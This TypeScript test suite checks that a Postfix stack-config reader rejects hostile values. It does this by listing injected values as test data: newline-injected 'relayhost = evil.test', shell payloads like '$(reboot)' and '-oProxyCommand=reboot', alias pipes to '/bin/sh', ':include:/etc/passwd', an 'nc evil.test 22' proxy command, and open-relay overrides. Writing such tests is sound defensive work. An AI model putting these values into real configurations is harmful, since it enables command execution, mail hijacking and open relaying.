// Bad and malicious config values. Each case is the `home` stack with one value changed;
// readStackConfig must refuse it (no server plan at all) with a problem that starts with the key.
import assert from "node:assert/strict";
import { test } from "node:test";
import { readStackConfig } from "../../components/stack-config";
import { stackConfig } from "../support/stack";

type Config = Record<string, string>;
type Server = Record<string, any>;

interface Case {
    name: string;
    config: Config;
    /** The exact key the problem must start with, e.g. `postfix:servers[0].hostname`. */
    key: string;
}

const S0 = "postfix:servers[0]";
// JSON text for every value: a string comes back unchanged (quotes, NUL and all) when parsed.
const text = (value: unknown): string => JSON.stringify(value);

/** The home stack with one shared `postfix:<key>` set to `value`. */
function shared(key: string, value: unknown): Config {
    return { ...stackConfig("home"), [`postfix:${key}`]: text(value) };
}

/** The home stack with its first server entry changed. */
function server(change: (s: Server) => void): Config {
    const config = stackConfig("home");
    const servers = JSON.parse(config["postfix:servers"]) as Server[];
    change(servers[0]);
    return { ...config, "postfix:servers": text(servers) };
}

const homeShared = (key: string): any => JSON.parse(stackConfig("home")[`postfix:${key}`]);
const sharedList = (key: string, index: number, value: unknown): Config => {
    const list = [...homeShared(key)];
    list[index] = value;
    return shared(key, list);
};
const aliases = (extra: Record<string, unknown>): Config => shared("aliases", { ...homeShared("aliases"), ...extra });

const CASES: Case[] = [];
const add = (name: string, config: Config, key: string) => CASES.push({ name, config, key });

// Line breaks (LF, CRLF, U+2028) in every kind of string field.
const BREAKS: Array<[string, string]> = [["\\n", "\n"], ["\\r\\n", "\r\n"], ["U+2028", "\u2028"]];
for (const [label, nl] of BREAKS) {
    add(`${label} in domain`, shared("domain", `home.lan${nl}relayhost = evil.test`), "postfix:domain");
    add(`${label} in hostname`, server((s) => (s.hostname = `server.home.lan${nl}mynetworks = 0.0.0.0/0`)), `${S0}.hostname`);
    add(`${label} in destinations`, shared("destinations", ["home.lan", `localhost${nl}x`]), "postfix:destinations[1]");
    add(`${label} in an alias name`, aliases({ [`evil${nl}root`]: "fribeiro" }), "postfix:aliases");
    add(`${label} in an alias target`, aliases({ root: `fribeiro${nl}|/bin/sh` }), "postfix:aliases.root");
    add(`${label} in a mail user`, shared("mailUsers", [`fribeiro${nl}root`]), "postfix:mailUsers[0]");
    add(`${label} in an extra parameter name`, shared("extraParameters", { [`smtpd_banner${nl}relayhost`]: "x" }), "postfix:extraParameters");
    add(`${label} in an extra parameter value`, shared("extraParameters", { smtpd_banner: `$myhostname${nl}mynetworks = 0.0.0.0/0` }), "postfix:extraParameters.smtpd_banner");
    add(`${label} in an extra parameter list value`, shared("extraParameters", { smtpd_helo_restrictions: ["permit", `x${nl}y`] }), "postfix:extraParameters.smtpd_helo_restrictions[1]");
    add(`${label} in certificate.commonName`, shared("certificate", { commonName: `server.home.lan${nl}x` }), "postfix:certificate.commonName");
    add(`${label} in certificate.organization`, shared("certificate", { organization: `Home${nl}CN=evil` }), "postfix:certificate.organization");
    add(`${label} in certificate.dnsNames`, shared("certificate", { dnsNames: [`server.home.lan${nl}x`] }), "postfix:certificate.dnsNames[0]");
    add(`${label} in certificate.ipAddresses`, shared("certificate", { ipAddresses: [`192.168.1.100${nl}`] }), "postfix:certificate.ipAddresses[0]");
    add(`${label} in a trusted network`, sharedList("trustedNetworks", 1, `192.168.1.0/24${nl}0.0.0.0/0`), "postfix:trustedNetworks[1]");
    add(`${label} in a listen address`, server((s) => (s.listenAddresses[1] = `192.168.1.100${nl}`)), `${S0}.listenAddresses[1]`);
    add(`${label} in ssh.host`, server((s) => (s.ssh.host = `192.168.1.100${nl}x`)), `${S0}.ssh.host`);
    add(`${label} in ssh.user`, server((s) => (s.ssh.user = `root${nl}x`)), `${S0}.ssh.user`);
    add(`${label} in ssh.hostKey`, server((s) => (s.ssh.hostKey = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5${nl}evil.test ssh-ed25519 AAAA`)), `${S0}.ssh.hostKey`);
    add(`${label} in ssh.privateKeyPath`, server((s) => (s.ssh.privateKeyPath = `~/.ssh/id_ed25519${nl}x`)), `${S0}.ssh.privateKeyPath`);
}

// NUL and other control characters (C0, DEL, C1 including NEL, the paragraph separator).
const CONTROLS: Array<[string, string]> = [["NUL", "\u0000"], ["tab", "\t"], ["ESC", "\u001b"], ["DEL", "\u007f"], ["NEL", "\u0085"], ["U+2029", "\u2029"]];
for (const [label, ch] of CONTROLS) {
    add(`${label} in domain`, shared("domain", `home.lan${ch}`), "postfix:domain");
    add(`${label} in an extra parameter value`, shared("extraParameters", { smtpd_banner: `a${ch}b` }), "postfix:extraParameters.smtpd_banner");
    add(`${label} in ssh.privateKeyPath`, server((s) => (s.ssh.privateKeyPath = `/root/.ssh/id${ch}`)), `${S0}.ssh.privateKeyPath`);
    add(`${label} in ssh.hostKey comment`, server((s) => (s.ssh.hostKey = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 root@host${ch}x`)), `${S0}.ssh.hostKey`);
}
add("NUL in a trusted network", sharedList("trustedNetworks", 0, "127.0.0.0/8\u0000"), "postfix:trustedNetworks[0]");
add("NUL in an alias target", aliases({ root: "fribeiro\u0000" }), "postfix:aliases.root");

// Shell metacharacters where a name, user or address is expected.
const SHELL = [";", "|", "&&", "`", "$(", "${IFS}", "'", '"', ">"];
const shell = (meta: string, tail = "id"): string => (meta === "$(" ? `$(${tail})` : meta === "`" ? `\`${tail}\`` : `${meta}${tail}`);
SHELL.forEach((meta) => {
    add(`shell ${meta} in hostname`, server((s) => (s.hostname = `server.home.lan${shell(meta)}`)), `${S0}.hostname`);
    add(`shell ${meta} in mail user`, shared("mailUsers", [`fribeiro${shell(meta)}`]), "postfix:mailUsers[0]");
    add(`shell ${meta} in ssh.user`, server((s) => (s.ssh.user = `root${shell(meta)}`)), `${S0}.ssh.user`);
    add(`shell ${meta} in ssh.host`, server((s) => (s.ssh.host = `192.168.1.100${shell(meta)}`)), `${S0}.ssh.host`);
});
add("shell ; in domain", shared("domain", "home.lan;reboot"), "postfix:domain");
add("shell $() in destinations", shared("destinations", ["$(reboot)"]), "postfix:destinations[0]");
add("shell ${IFS} in a trusted network", sharedList("trustedNetworks", 1, "192.168.1.0/24${IFS}0.0.0.0/0"), "postfix:trustedNetworks[1]");
add("shell && in an alias target", aliases({ root: "fribeiro && reboot" }), "postfix:aliases.root");
add("shell ; in an alias name", aliases({ "root;reboot": "fribeiro" }), "postfix:aliases.root;reboot");
add("shell > in an extra parameter name", shared("extraParameters", { "smtpd_banner>/etc/passwd": "x" }), "postfix:extraParameters.smtpd_banner>/etc/passwd");
add("shell ` in certificate.commonName", shared("certificate", { commonName: "`reboot`.home.lan" }), "postfix:certificate.commonName");
add("option-like ssh.host", server((s) => (s.ssh.host = "-oProxyCommand=reboot")), `${S0}.ssh.host`);
add("option-like ssh.user", server((s) => (s.ssh.user = "-oProxyCommand=reboot")), `${S0}.ssh.user`);
add("shell ; in ssh.hostKey key type", server((s) => (s.ssh.hostKey = "ssh-ed25519;reboot AAAAC3NzaC1lZDI1NTE5")), `${S0}.ssh.hostKey`);

// Huge values.
const HUGE = "a".repeat(100 * 1024);
const label63 = "a".repeat(63);
add("100 kB domain", shared("domain", HUGE), "postfix:domain");
add("100 kB hostname", server((s) => (s.hostname = `${HUGE}.lan`)), `${S0}.hostname`);
add("100 kB extra parameter value", shared("extraParameters", { smtpd_banner: HUGE }), "postfix:extraParameters.smtpd_banner");
add("100 kB alias target", aliases({ root: HUGE }), "postfix:aliases.root");
add("100 kB mail user", shared("mailUsers", [HUGE]), "postfix:mailUsers[0]");
add("100 kB certificate.organization", shared("certificate", { organization: HUGE }), "postfix:certificate.organization");
add("100 kB ssh.host", server((s) => (s.ssh.host = HUGE)), `${S0}.ssh.host`);
add("100 kB ssh.privateKeyPath", server((s) => (s.ssh.privateKeyPath = `/${HUGE}`)), `${S0}.ssh.privateKeyPath`);
add("100 kB ssh.hostKey", server((s) => (s.ssh.hostKey = `ssh-ed25519 ${"A".repeat(100 * 1024)}`)), `${S0}.ssh.hostKey`);
add("300-character domain", shared("domain", [label63, label63, label63, label63, "home.lan"].join(".")), "postfix:domain");
add("70-character label", shared("domain", `${"a".repeat(70)}.lan`), "postfix:domain");
add("empty domain", shared("domain", ""), "postfix:domain");

// Wildcard and public networks; wildcard listen addresses.
for (const [i, network] of ["0.0.0.0/0", "::/0", "0.0.0.0/1", "8.8.8.0/24", "2001:db8::/32", "192.169.1.0/24", "::/1", "::/128", "::ffff:0:0/96", "10.0.0.0/7"].entries()) {
    add(`public or wide network ${network}`, sharedList("trustedNetworks", 1, network), "postfix:trustedNetworks[1]");
    if (i === 0) add("every IPv4 address even with allowPublicNetworks", { ...sharedList("trustedNetworks", 1, network), "postfix:allowPublicNetworks": "true" }, "postfix:trustedNetworks[1]");
}
add("a public network as a server override", server((s) => (s.trustedNetworks = ["127.0.0.0/8", "192.169.1.0/24"])), `${S0}.trustedNetworks[1]`);
add("allowPublicNetworks as text", shared("allowPublicNetworks", "yes"), "postfix:allowPublicNetworks");
add("listen on 0.0.0.0 (every interface)", {
    ...shared("trustedNetworks", ["0.0.0.0/8", "192.168.1.0/24"]),
    "postfix:allowPublicNetworks": "true",
    "postfix:servers": text([{ ...JSON.parse(stackConfig("home")["postfix:servers"])[0], listenAddresses: ["0.0.0.0"] }]),
}, `${S0}.listenAddresses[0]`);
add("listen on :: (every interface)", {
    ...shared("trustedNetworks", ["::/1", "192.168.1.0/24"]),
    "postfix:allowPublicNetworks": "true",
    "postfix:servers": text([{ ...JSON.parse(stackConfig("home")["postfix:servers"])[0], listenAddresses: ["::"] }]),
}, `${S0}.listenAddresses[0]`);
add("listen on all", server((s) => (s.listenAddresses = ["all"])), `${S0}.listenAddresses[0]`);
add("listen address outside the LAN", server((s) => (s.listenAddresses[1] = "192.169.1.100")), `${S0}.listenAddresses[1]`);

// IPv6 forms that cannot be rendered unambiguously.
add("zone id in a listen address", server((s) => (s.listenAddresses[1] = "fe80::1%eth0")), `${S0}.listenAddresses[1]`);
add("zone id in a network", sharedList("trustedNetworks", 1, "fe80::%eth0/64"), "postfix:trustedNetworks[1]");
add("IPv4-mapped listen address with dots", server((s) => (s.listenAddresses[1] = "::ffff:192.168.1.100")), `${S0}.listenAddresses[1]`);
add("IPv4-mapped network with dots", sharedList("trustedNetworks", 1, "::ffff:192.168.1.0/120"), "postfix:trustedNetworks[1]");
add("bracketed IPv6 network", sharedList("trustedNetworks", 1, "[fd00::]/64"), "postfix:trustedNetworks[1]");
add("bracketed IPv6 listen address", server((s) => (s.listenAddresses[1] = "[::1]")), `${S0}.listenAddresses[1]`);
add("IPv6 prefix 129", sharedList("trustedNetworks", 1, "::/129"), "postfix:trustedNetworks[1]");
add("IPv4 prefix 33", sharedList("trustedNetworks", 1, "192.168.1.0/33"), "postfix:trustedNetworks[1]");
add("negative prefix", sharedList("trustedNetworks", 1, "192.168.1.0/-1"), "postfix:trustedNetworks[1]");
add("IPv4-mapped certificate address", shared("certificate", { ipAddresses: ["::ffff:192.168.1.100"] }), "postfix:certificate.ipAddresses[0]");

// Unicode look-alikes.
add("Cyrillic а in domain", shared("domain", "home.l\u0430n"), "postfix:domain");
add("Cyrillic о in hostname", server((s) => (s.hostname = "server.h\u043eme.lan")), `${S0}.hostname`);
add("Cyrillic е in destinations", shared("destinations", ["hom\u0435.lan"]), "postfix:destinations[0]");
add("fullwidth dot in domain", shared("domain", "home\uff0elan"), "postfix:domain");
add("zero-width space in domain", shared("domain", "home\u200b.lan"), "postfix:domain");
add("Cyrillic о in an alias target domain", aliases({ root: "fribeiro@h\u043eme.lan" }), "postfix:aliases.root");
add("Cyrillic а in ssh.host", server((s) => (s.ssh.host = "server.home.l\u0430n")), `${S0}.ssh.host`);
add("fullwidth digits in a listen address", server((s) => (s.listenAddresses[1] = "\uff11\uff19\uff12.168.1.100")), `${S0}.listenAddresses[1]`);

// Alias pipes, files and includes.
add("alias pipe", aliases({ root: "|/bin/sh -c reboot" }), "postfix:aliases.root");
add("alias file", aliases({ root: "/tmp/x" }), "postfix:aliases.root");
add("alias include", aliases({ root: ":include:/etc/passwd" }), "postfix:aliases.root");
add("alias pipe in a list", aliases({ root: ["fribeiro", "|cmd"] }), "postfix:aliases.root[1]");
add("alias quoted pipe", aliases({ root: '"|cmd"' }), "postfix:aliases.root");
add("alias relative file", aliases({ root: "./x" }), "postfix:aliases.root");
add("alias home file", aliases({ root: "~/x" }), "postfix:aliases.root");

// Extra parameters overriding safety settings without opt-in, or typed options.
for (const [name, value] of [
    ["smtpd_relay_restrictions", "permit"], ["smtpd_recipient_restrictions", "permit"], ["smtpd_client_restrictions", ""],
    ["mynetworks", "0.0.0.0/0"], ["mynetworks_style", "subnet"], ["relay_domains", "*"], ["smtpd_authorized_xclient_hosts", "0.0.0.0/0"],
    ["disable_vrfy_command", false], ["inet_interfaces", "all"], ["local_recipient_maps", ""],
    ["smtpd_upstream_proxy_protocol", "haproxy"], ["postscreen_upstream_proxy_protocol", "haproxy"],
] as Array<[string, unknown]>) {
    add(`extra ${name} without allowUnsafeOverrides`, shared("extraParameters", { [name]: value }), `postfix:extraParameters.${name}`);
}
add("extra safety override per server", server((s) => (s.extraParameters = { smtpd_relay_restrictions: ["permit"] })), `${S0}.extraParameters.smtpd_relay_restrictions`);
add("allowUnsafeOverrides as text", shared("allowUnsafeOverrides", "true"), "postfix:allowUnsafeOverrides");
add("extra shadowing myhostname", shared("extraParameters", { myhostname: "evil.test" }), "postfix:extraParameters.myhostname");
add("extra with an upper-case name", shared("extraParameters", { Smtpd_relay_restrictions: "permit" }), "postfix:extraParameters.Smtpd_relay_restrictions");
add("extra list item with a comma", shared("extraParameters", { smtpd_helo_restrictions: ["permit, reject"] }), "postfix:extraParameters.smtpd_helo_restrictions");
add("extra value an object", shared("extraParameters", { smtpd_banner: { a: 1 } }), "postfix:extraParameters.smtpd_banner");

// Sizes and numbers.
add("message size as text", shared("messageSizeLimit", "50M"), "postfix:messageSizeLimit");
add("negative message size", shared("messageSizeLimit", -1), "postfix:messageSizeLimit");
add("fractional message size", shared("messageSizeLimit", 1024.5), "postfix:messageSizeLimit");
add("message size beyond 2^31", shared("messageSizeLimit", 2 ** 40), "postfix:messageSizeLimit");
add("message size as the raw text NaN", { ...stackConfig("home"), "postfix:messageSizeLimit": "NaN" }, "postfix:messageSizeLimit");
add("non-numeric mailbox size", shared("extraParameters", { mailbox_size_limit: "unlimited" }), "postfix:extraParameters.mailbox_size_limit");
add("negative mailbox size", shared("extraParameters", { mailbox_size_limit: -1 }), "postfix:extraParameters.mailbox_size_limit");
add("negative apt lock timeout", shared("aptLockTimeoutSeconds", -1), "postfix:aptLockTimeoutSeconds");
add("ssh port as text", server((s) => (s.ssh.port = "22; reboot")), `${S0}.ssh.port`);
add("negative ssh port", server((s) => (s.ssh.port = -22)), `${S0}.ssh.port`);
add("negative certificate validity", shared("certificate", { validityDays: -1 }), "postfix:certificate.validityDays");
add("certificate rsaBits 512", shared("certificate", { rsaBits: 512 }), "postfix:certificate.rsaBits");

// Unknown keys, and the server entry itself.
add("unknown top-level key", { ...stackConfig("home"), "postfix:relayhost": text("evil.test") }, "postfix:relayhost");
add("unknown top-level __proto__", { ...stackConfig("home"), "postfix:__proto__": text({ allowUnsafeOverrides: true }) }, "postfix:__proto__");
add("unknown server key", server((s) => (s.relayhost = "evil.test")), `${S0}.relayhost`);
add("unknown ssh key", server((s) => (s.ssh.proxyCommand = "nc evil.test 22")), `${S0}.ssh.proxyCommand`);
add("unknown certificate key", shared("certificate", { keyPem: "x" }), "postfix:certificate.keyPem");
add("server name with a slash", server((s) => (s.name = "server/../../etc")), `${S0}.name`);
add("server name with a newline", server((s) => (s.name = "server\nx")), `${S0}.name`);
add("server name upper case", server((s) => (s.name = "Server")), `${S0}.name`);
add("server entry a string", { ...stackConfig("home"), "postfix:servers": text(["server"]) }, S0);
add("no servers", { ...stackConfig("home"), "postfix:servers": text([]) }, "postfix:servers");
add("duplicate server name", (() => {
    const servers = JSON.parse(stackConfig("home")["postfix:servers"]);
    return { ...stackConfig("home"), "postfix:servers": text([servers[0], { ...servers[0] }]) };
})(), "postfix:servers[1].name");
add("mail user root", shared("mailUsers", ["root"]), "postfix:mailUsers[0]");
add("mail options not a map", shared("aliases", ["root"]), "postfix:aliases");

// The smarthost, its secret password, port 587 and virtual aliases.
const relay = (value: Record<string, unknown>): Config => shared("relayHost", { host: "smtp.isp.test", ...value });
add("relay host command substitution", relay({ host: "$(reboot)" }), "postfix:relayHost.host");
add("relay host with a newline", relay({ host: "smtp.isp.test\nrelayhost = evil.test" }), "postfix:relayHost.host");
add("relay host with a port inside", relay({ host: "smtp.isp.test:25" }), "postfix:relayHost.host");
add("relay port as text", relay({ port: "587; reboot" }), "postfix:relayHost.port");
add("relay user with a colon", relay({ username: "me:other" }), "postfix:relayHost.username");
add("relay user with a space", relay({ username: "me other" }), "postfix:relayHost.username");
add("relay tls none", relay({ tls: "none" }), "postfix:relayHost.tls");
add("relay verify by address without a name", relay({ host: "192.0.2.25", tls: "verify" }), "postfix:relayHost.tlsName");
add("relay CA not a certificate", relay({ caCertificatePem: "hello" }), "postfix:relayHost.caCertificatePem");
add("relay CA with a command inside", relay({ caCertificatePem: "-----BEGIN CERTIFICATE-----\n$(reboot)\n-----END CERTIFICATE-----\n" }), "postfix:relayHost.caCertificatePem");
add("relay option unknown", relay({ password: "in plain text" }), "postfix:relayHost.password");
const withPassword = (config: Config, password: string): Config => ({ ...config, "postfix:relayHostPassword": password });
add("relay password with a newline", withPassword(relay({ username: "me" }), "pw\n[evil.test] x:y"), "postfix:relayHostPassword");
add("relay password with NUL", withPassword(relay({ username: "me" }), "pw\u0000"), "postfix:relayHostPassword");
add("relay password with a trailing space", withPassword(relay({ username: "me" }), "pw "), "postfix:relayHostPassword");
add("relay user without a password", relay({ username: "me" }), "postfix:relayHostPassword");
add("relay password without a user", withPassword(stackConfig("home"), "pw"), "postfix:relayHostPassword");
add("submission as text", shared("submission", "yes"), "postfix:submission");
add("virtual alias without a domain", shared("virtualAliases", { info: "fribeiro" }), "postfix:virtualAliases.info");
add("virtual alias key with a newline", shared("virtualAliases", { "info@shop.test\nx": "fribeiro" }), "postfix:virtualAliases");
add("virtual alias look-alike domain", shared("virtualAliases", { "info@shоp.test": "fribeiro" }), "postfix:virtualAliases.info@shоp.test");
add("virtual alias pipe target", shared("virtualAliases", { "info@shop.test": "|/bin/sh" }), "postfix:virtualAliases.info@shop.test");
add("virtual alias space in key", shared("virtualAliases", { "in fo@shop.test": "fribeiro" }), "postfix:virtualAliases.in fo@shop.test");
for (const name of ["relayhost", "smtp_sasl_password_maps", "virtual_alias_maps"]) {
    add(`extra ${name} shadowing its option`, shared("extraParameters", { [name]: "hash:/tmp/x" }), `postfix:extraParameters.${name}`);
}

test("the home stack itself is accepted", () => {
    const { servers, problems } = readStackConfig(stackConfig("home"));
    assert.deepEqual(problems, []);
    assert.equal(servers.length, 1);
});

let refused = 0;
for (const { name, config, key } of CASES) {
    test(`refused: ${name}`, () => {
        const { servers, problems } = readStackConfig(config);
        assert.deepEqual(servers, [], "no server plan may come out of a refused config");
        assert.ok(problems.some((p) => p.startsWith(`${key} `)), `expected a problem starting with "${key} " in:\n${problems.join("\n").slice(0, 2000)}`);
        refused++;
    });
}

test("every hostile input was refused", () => {
    assert.ok(CASES.length >= 45, `only ${CASES.length} cases`);
    assert.equal(refused, CASES.length);
    console.log(`# hostile inputs refused: ${refused}`);
});
